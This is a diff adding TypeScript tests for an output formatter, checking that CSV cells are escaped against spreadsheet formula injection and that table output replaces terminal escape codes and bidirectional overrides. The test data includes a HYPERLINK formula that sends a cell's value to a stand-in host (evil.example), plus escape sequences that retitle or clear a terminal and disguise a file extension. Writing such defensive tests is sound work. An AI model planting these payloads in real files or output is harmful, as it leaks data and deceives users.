@@ -98,3 +98,53 @@ describe("output formats", () => {
     );
   });
 });
+
+describe("output that cannot attack its reader", () => {
+  it("csv: text a spreadsheet would run as a formula gets a leading apostrophe; numbers stay numbers", () => {
+    const grid: Grid = [
+      [s('=HYPERLINK("http://evil.example/?"&A1,"x")'), s("+1"), s("-2+3"), s("@SUM(A1)")],
+      [s("\t=1"), s("\r=1"), s("a=b"), n(-5)],
+      [
+        s("-"),
+        { kind: "date", value: "2024-01-01", serial: 45292 },
+        errorCell("#N/A", "x"),
+        s("Aave"),
+      ],
+    ];
+    const lines = formatResults("csv", [{ formula: "=X()", grid }]).split("\r\n");
+    expect(lines[0]).toBe(`"'=HYPERLINK(""http://evil.example/?""&A1,""x"")",'+1,'-2+3,'@SUM(A1)`);
+    expect(lines[1]).toBe(`'\t=1,"'\r=1",a=b,-5`);
+    expect(lines[2]).toBe("'-,2024-01-01,#N/A,Aave");
+  });
+
+  it("csv: a message line is one field, so its commas cannot start a formula field", () => {
+    const grid: Grid = [[errorCell("#N/A", "unknown project x,=1+1")]];
+    expect(formatResults("csv", [{ formula: "=X()", grid }])).toBe(
+      '#N/A\r\n"# #N/A unknown project x,=1+1"\r\n'
+    );
+  });
+
+  it("table: ESC, BEL, NUL, C1 controls and bidirectional overrides are shown as a placeholder", () => {
+    const hostile = "\u001b]0;pwned\u0007Aave\u0000\u009b2J\u202eexe.txt\u2066";
+    const out = formatResults("table", [
+      {
+        formula: "=X()",
+        grid: [
+          [s(hostile), n(1)],
+          [errorCell("#N/A", hostile), n(2)],
+        ],
+      },
+    ]);
+    // eslint-disable-next-line no-control-regex
+    expect(out).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/);
+    expect(out).toContain("\ufffd]0;pwned\ufffdAave\ufffd\ufffd2J\ufffdexe.txt\ufffd");
+    expect(out).toContain("A2: #N/A \ufffd]0;pwned");
+  });
+
+  it("table: a result of 130,000 rows is laid out without exhausting the stack", () => {
+    const grid: Grid = Array.from({ length: 130_000 }, (_, i) => [n(i), s(`p${i}`)]);
+    const out = formatResults("table", [{ formula: "=X()", grid }]);
+    expect(out.split("\n")).toHaveLength(130_002);
+    expect(out.split("\n")[130_000]).toBe("129999  p129999");
+  });
+});
